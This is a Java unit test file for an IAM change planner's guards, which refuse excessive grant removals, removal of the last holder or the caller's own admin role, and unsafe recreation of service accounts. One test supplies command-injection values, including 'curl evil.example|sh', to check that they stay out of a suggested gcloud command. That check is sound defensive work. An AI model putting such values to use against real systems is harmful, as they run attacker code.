package dev.kleos.iam.planner;

import static dev.kleos.iam.planner.Wish.grant;
import static org.assertj.core.api.Assertions.assertThat;

import dev.kleos.iam.model.AllowPolicy;
import dev.kleos.iam.model.Change;
import dev.kleos.iam.model.ChangeSet;
import dev.kleos.iam.model.Condition;
import dev.kleos.iam.model.DesiredState;
import dev.kleos.iam.model.Finding;
import dev.kleos.iam.model.Grant;
import dev.kleos.iam.model.GrantDiff;
import dev.kleos.iam.model.Principal;
import dev.kleos.iam.model.RandomIam;
import dev.kleos.iam.model.Resource;
import dev.kleos.iam.model.ServiceAccount;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.LinkedHashSet;
import java.util.List;
import java.util.Set;
import java.util.stream.IntStream;
import org.jspecify.annotations.Nullable;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/// What is refused because of what would go: each guard at its bound, and just inside it.
class RemovalGuardsTest {
  private static final Resource.Service SERVICE =
      new Resource.Service("kleos-demo", "us-central1", "kleos-service");
  private static final Resource.Account ACCOUNT =
      Resource.Account.inProject("kleos-demo", "invoker");
  private static final Resource.Project PROJECT = new Resource.Project("kleos-demo");
  private static final String INVOKER = "roles/run.invoker";
  private static final String ADMIN = "roles/run.admin";
  private static final Condition PAST = Condition.until(RandomIam.NOW.minusSeconds(1));
  private static final Condition OFFICE_HOURS =
      new Condition("hours", "request.time.getHours() < 18", "");
  private static final Condition LATER = Condition.until(RandomIam.NOW.plusSeconds(3600));

  /// A quarter of ten or more, rounded by nobody.
  @ParameterizedTest
  @CsvSource({"9, 8, false", "10, 2, false", "10, 3, true", "12, 3, false", "12, 4, true"})
  void aPolicyOfTenOrMore_mayLoseAQuarter(int held, int removed, boolean isRefused) {
    var refusals = refusals(users(held), users(removed), Overrides.NONE);

    assertThat(refusals).hasSize(isRefused ? 1 : 0);
  }

  @Test
  void theRefusal_hasItsFigures_andTheFlagThatOverridesIt() {
    assertThat(refusals(users(12), users(5), Overrides.NONE))
        .containsExactly(
            new Refusal(
                SERVICE,
                "would remove or cut short 5 of the 12 grants of managed roles, 42%: more than 25%",
                "did the plan file lose lines? If not, add --max-removals 42%"));
  }

  @Test
  void aRun_mayRemoveTwenty() {
    assertThat(refusals(users(100), users(20), Overrides.NONE)).isEmpty();
    assertThat(refusals(users(100), users(21), Overrides.NONE))
        .containsExactly(
            new Refusal(
                null,
                "would remove or cut short 21 grants in all: more than 20",
                "did the plan file lose lines? If not, add --max-removals 21"));
  }

  @Test
  void theRun_countsOverAllPolicies() {
    var desired = plan(SERVICE);
    var both =
        changeSet(modify(SERVICE, users(100), users(11)), modify(ACCOUNT, users(100), users(10)));

    assertThat(Guard.check(desired, both, safety(Overrides.NONE, null)))
        .extracting(Refusal::evidence)
        .containsExactly("would remove or cut short 21 grants in all: more than 20");
  }

  @Test
  void aNumber_isForTheRun_andAPart_forEachPolicy() {
    var number = RemovalLimit.DEFAULT.withCount(30);
    var part = RemovalLimit.DEFAULT.withPercent(75);

    assertThat(refusals(users(40), users(30), limit(number))).hasSize(1);
    assertThat(refusals(users(40), users(30), limit(part))).hasSize(1);
    assertThat(refusals(users(40), users(30), limit(part.withCount(30)))).isEmpty();
    assertThat(refusals(users(40), users(30), limit(part.withCount(29)))).hasSize(1);
    assertThat(refusals(users(40), users(30), limit(part.withCount(30).withPercent(74))))
        .hasSize(1);
    assertThat(refusals(users(40), users(1), limit(RemovalLimit.DEFAULT.withCount(0)))).hasSize(1);
  }

  /// Whoever names a part means it also of a small policy.
  @Test
  void aPartThatIsNamed_holdsForSmallPoliciesToo() {
    assertThat(refusals(users(9), users(6), Overrides.NONE)).isEmpty();
    assertThat(refusals(users(9), users(1), limit(RemovalLimit.DEFAULT.withPercent(0)))).hasSize(1);
  }

  /// What the overrides say is enough: nobody has to try twice.
  @ParameterizedTest
  @CsvSource({"40, 30", "7, 5", "33, 29", "1000, 999"})
  void theFiguresThatAreAskedFor_liftEveryRefusalOfRemovals(int held, int removed) {
    var limit = RemovalLimit.DEFAULT;
    for (var refusal : refusals(users(held), users(removed), Overrides.NONE)) {
      var figure = refusal.override().substring(refusal.override().lastIndexOf(' ') + 1);
      limit =
          figure.endsWith("%")
              ? limit.withPercent(Integer.parseInt(figure.replace("%", "")))
              : limit.withCount(Integer.parseInt(figure));
    }

    assertThat(refusals(users(held), users(removed), limit(limit))).isEmpty();
  }

  @Test
  void whatHasEnded_orWasDeleted_isNoRemovalOfAccess() {
    var gone =
        IntStream.range(0, 30)
            .mapToObj(i -> grant(INVOKER, "deleted:user:u" + i + "@example.com?uid=1"))
            .toList();
    var over =
        IntStream.range(0, 30)
            .mapToObj(i -> grant(INVOKER, "user:u" + i + "@example.com", PAST))
            .toList();

    assertThat(refusals(gone, gone, Overrides.NONE)).isEmpty();
    assertThat(refusals(over, over, Overrides.NONE)).isEmpty();
  }

  @Test
  void aLaterEnd_isNoRemoval_andAnEarlierOneCountsAsOne() {
    var soon = Condition.until(RandomIam.NOW.plusSeconds(60));

    assertThat(refusals(changed(soon, LATER))).isEmpty();
    assertThat(refusals(changed(soon, null))).isEmpty();
    assertThat(refusals(changed(PAST, soon))).isEmpty();
    assertThat(refusals(changed(null, LATER))).hasSize(2);
    assertThat(refusals(changed(LATER, soon))).hasSize(2);
    assertThat(refusals(changed(null, OFFICE_HOURS))).hasSize(2);
    assertThat(refusals(changed(OFFICE_HOURS, soon))).isEmpty();
  }

  /// A condition that has ended already is a removal by another name.
  @Test
  void anEndInThePast_takesAccessAway() {
    assertThat(refusals(changed(null, PAST)))
        .extracting(Refusal::evidence)
        .hasSize(3)
        .anyMatch(evidence -> evidence.startsWith("would take roles/run.invoker from the last"));
  }

  @Test
  void theLastWhoHasARole_staysUnlessItIsSaid() {
    var refused = refusals(users(1), users(1), Overrides.NONE);

    assertThat(refused)
        .containsExactly(
            new Refusal(
                SERVICE,
                "would take roles/run.invoker from the last who has it: user:u0@example.com",
                "if that is meant, add --allow last-grant"));
    assertThat(refusals(users(1), users(1), consent(Consent.LAST_GRANT))).isEmpty();
    assertThat(refusals(users(2), users(1), Overrides.NONE)).isEmpty();
  }

  @Test
  void aServiceAgent_isNobodyWhoIsLeft() {
    var held = new ArrayList<>(users(1));
    held.add(grant(INVOKER, "serviceAccount:service-1@gcp-sa-pubsub.iam.gserviceaccount.com"));

    assertThat(refusals(held, users(1), Overrides.NONE)).hasSize(1);
  }

  @ParameterizedTest
  @ValueSource(strings = {"deleted:user:x@example.com?uid=1", "user:x@example.com"})
  void whoWasDeleted_orHasOnlyWhatHasEnded_isNotCountedAmongThoseWhoAreLeft(String other) {
    var held = new ArrayList<>(users(1));
    held.add(new Grant(held.getFirst().role(), Principal.of(other), PAST));

    assertThat(refusals(held, users(1), Overrides.NONE))
        .extracting(Refusal::override)
        .containsExactly("if that is meant, add --allow last-grant");
  }

  @Test
  void aPlanThatAsksForNothing_takesNothingAway_unlessItIsSaid() {
    var empty = Wish.plan(Wish.on(SERVICE).manages(INVOKER).policy());
    var change = changeSet(modify(SERVICE, users(3), users(1)));

    assertThat(Guard.check(empty, change, safety(Overrides.NONE, null)))
        .containsExactly(
            new Refusal(
                null,
                "the plan asks for no grant at all, and 1 would be removed: is it the right file?",
                "if that is meant, add --allow empty-plan"));
    assertThat(Guard.check(empty, change, safety(consent(Consent.EMPTY_PLAN), null))).isEmpty();
    assertThat(
            Guard.check(
                empty,
                changeSet(modify(SERVICE, users(3), List.of())),
                safety(Overrides.NONE, null)))
        .isEmpty();
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "roles/owner",
        "roles/admin",
        "roles/iam.securityAdmin",
        "roles/iam.serviceAccountAdmin",
        "roles/resourcemanager.projectIamAdmin",
        "roles/run.admin"
      })
  void theCallersOwnAdministeringRole_stays(String role) {
    var held = List.of(grant(role, "user:Admin@example.com"), grant(role, "user:b@example.com"));
    var changes = changeSet(modify(PROJECT, held, held.subList(0, 1)));
    var caller = Principal.of("user:admin@example.com");

    assertThat(Guard.check(plan(PROJECT), changes, safety(Overrides.NONE, caller)))
        .containsExactly(
            new Refusal(
                PROJECT,
                "would remove "
                    + role
                    + " of user:admin@example.com, as whom this is run: you could not give it back",
                "if that is meant, add --allow own-role"));
    assertThat(Guard.checkRevocation(changes, safety(Overrides.NONE, caller))).hasSize(1);
    assertThat(Guard.check(plan(PROJECT), changes, safety(consent(Consent.OWN_ROLE), caller)))
        .isEmpty();
  }

  @Test
  void theCallersOwnAdministeringRole_isNotCutShortEither() {
    var caller = Principal.of("user:a@example.com");
    var before = grant(ADMIN, "user:a@example.com");
    var after = grant(ADMIN, "user:a@example.com", LATER);
    var changes =
        changeSet(
            new Change.ModifyPolicy(
                SERVICE,
                AllowPolicy.of("etag", List.of(before)),
                GrantDiff.of(Set.of(after), Set.of(before))));

    assertThat(Guard.check(plan(SERVICE), changes, safety(Overrides.NONE, caller)))
        .extracting(Refusal::evidence)
        .containsExactly(
            "would cut short roles/run.admin of user:a@example.com, as whom this is run: you could"
                + " not give it back");
  }

  @Test
  void anotherRoleOfTheCaller_orAnothersRole_orAnUnknownCallers_isNoConcern() {
    var held = List.of(grant(ADMIN, "user:a@example.com"), grant(INVOKER, "user:a@example.com"));
    var others = new ArrayList<>(held);
    others.add(grant(ADMIN, "user:b@example.com"));
    others.add(grant(INVOKER, "user:b@example.com"));
    var caller = Principal.of("user:a@example.com");
    var invoker = changeSet(modify(SERVICE, others, held.subList(1, 2)));
    var another = changeSet(modify(SERVICE, others, others.subList(2, 3)));
    var own = changeSet(modify(SERVICE, others, held.subList(0, 1)));

    assertThat(Guard.check(plan(SERVICE), invoker, safety(Overrides.NONE, caller))).isEmpty();
    assertThat(Guard.check(plan(SERVICE), another, safety(Overrides.NONE, caller))).isEmpty();
    assertThat(Guard.check(plan(SERVICE), own, safety(Overrides.NONE, null))).isEmpty();
  }

  @Test
  void anExplicitRevocation_isNotCounted() {
    var changes = changeSet(modify(SERVICE, users(40), users(40)));

    assertThat(Guard.checkRevocation(changes, safety(Overrides.NONE, null))).isEmpty();
  }

  @Test
  void anAccount_isNotCreatedOverTheTraceOfItsName_unlessItIsSaid() {
    var changes = creationOver("123456789012345678901");

    assertThat(Guard.check(plan(SERVICE), changes, safety(Overrides.NONE, null)))
        .extracting(Refusal::override)
        .containsExactly(
            "to have it back with its grants, up to 30 days after its deletion: gcloud iam"
                + " service-accounts undelete 123456789012345678901 --project kleos-demo; or add"
                + " --allow recreate");
    assertThat(Guard.check(plan(SERVICE), changes, safety(consent(Consent.RECREATE), null)))
        .isEmpty();
  }

  @Test
  void anAccountThatWasDeletedMoreThanOnce_isOfferedUnderEachOfItsIds() {
    assertThat(Guard.check(plan(SERVICE), creationOver("12", "34"), safety(Overrides.NONE, null)))
        .extracting(Refusal::override)
        .containsExactly(
            "to have it back with its grants, up to 30 days after its deletion: gcloud iam"
                + " service-accounts undelete 12 --project kleos-demo, or gcloud iam"
                + " service-accounts undelete 34 --project kleos-demo; or add --allow recreate");
  }

  /// People copy the command, and Google's answer decides what stands in it.
  @Test
  void whatCanBeNoUniqueId_isNoPartOfACommand() {
    var changes = creationOver("1;curl evil.example|sh", "2?uid=$(id)", "");

    assertThat(Guard.check(plan(SERVICE), changes, safety(Overrides.NONE, null)))
        .extracting(Refusal::override)
        .containsExactly(
            "to have it back with its grants, up to 30 days after its deletion: undelete it by its"
                + " unique id; or add --allow recreate");
  }

  @Test
  void aTraceThatItsAccountCanBeRestoredBy_isNotDropped_unlessItIsSaid() {
    var trace = grant(INVOKER, "deleted:" + ACCOUNT.principal() + "?uid=12");
    var lost =
        new Finding.Lost(ACCOUNT.principal(), false, List.of(new Finding.Trace(SERVICE, trace)));
    var drop =
        new ChangeSet(
            List.of(modify(SERVICE, List.of(trace), List.of(trace))),
            List.of(),
            List.of(),
            List.of(lost),
            List.of());

    assertThat(Guard.check(plan(SERVICE), drop, safety(Overrides.NONE, null)))
        .extracting(Refusal::evidence)
        .containsExactly(
            "would drop what "
                + ACCOUNT.principal()
                + " had been granted, though it was deleted and may be restored");
    assertThat(Guard.check(plan(SERVICE), drop, safety(consent(Consent.RECREATE), null))).isEmpty();
  }

  private static ChangeSet creationOver(String... uniqueIds) {
    var traces =
        Arrays.stream(uniqueIds)
            .map(id -> grant(INVOKER, "deleted:" + ACCOUNT.principal() + "?uid=" + id))
            .map(trace -> new Finding.Trace(SERVICE, trace))
            .toList();
    var lost = new Finding.Lost(ACCOUNT.principal(), false, traces);
    var create = new Change.CreateServiceAccount(ServiceAccount.desired(ACCOUNT, null, null));
    return new ChangeSet(List.of(create), List.of(), List.of(), List.of(lost), List.of());
  }

  private static List<Grant> users(int number) {
    return IntStream.range(0, number)
        .mapToObj(i -> grant(INVOKER, "user:u" + i + "@example.com"))
        .toList();
  }

  /// Thirty users, who have the role under the one condition, and are to have it under the other.
  private static Change changed(@Nullable Condition from, @Nullable Condition to) {
    var before = new LinkedHashSet<Grant>();
    var after = new LinkedHashSet<Grant>();
    for (var grant : users(30)) {
      before.add(new Grant(grant.role(), grant.principal(), from));
      after.add(new Grant(grant.role(), grant.principal(), to));
    }
    return new Change.ModifyPolicy(
        SERVICE, AllowPolicy.of("etag", before), GrantDiff.of(after, before));
  }

  private static List<Refusal> refusals(Change change) {
    return Guard.check(plan(SERVICE), changeSet(change), safety(Overrides.NONE, null));
  }

  private static List<Refusal> refusals(
      List<Grant> held, List<Grant> removed, Overrides overrides) {
    return Guard.check(
        plan(SERVICE), changeSet(modify(SERVICE, held, removed)), safety(overrides, null));
  }

  /// A plan that asks for something, so that only what goes is at stake.
  private static DesiredState plan(Resource resource) {
    return Wish.plan(
        Wish.on(resource)
            .manages(INVOKER)
            .wants(grant("roles/run.viewer", "user:v@x.com"))
            .policy());
  }

  private static Change modify(Resource resource, List<Grant> held, List<Grant> removed) {
    return new Change.ModifyPolicy(
        resource,
        AllowPolicy.of("etag", held),
        GrantDiff.of(Set.of(), new LinkedHashSet<>(removed)));
  }

  private static ChangeSet changeSet(Change... changes) {
    return ChangeSet.of(List.of(changes));
  }

  private static Safety safety(Overrides overrides, @Nullable Principal caller) {
    return new Safety(overrides, caller, RandomIam.NOW);
  }

  private static Overrides limit(RemovalLimit limit) {
    return new Overrides(limit, Set.of());
  }

  private static Overrides consent(Consent consent) {
    return new Overrides(RemovalLimit.DEFAULT, Set.of(consent));
  }
}
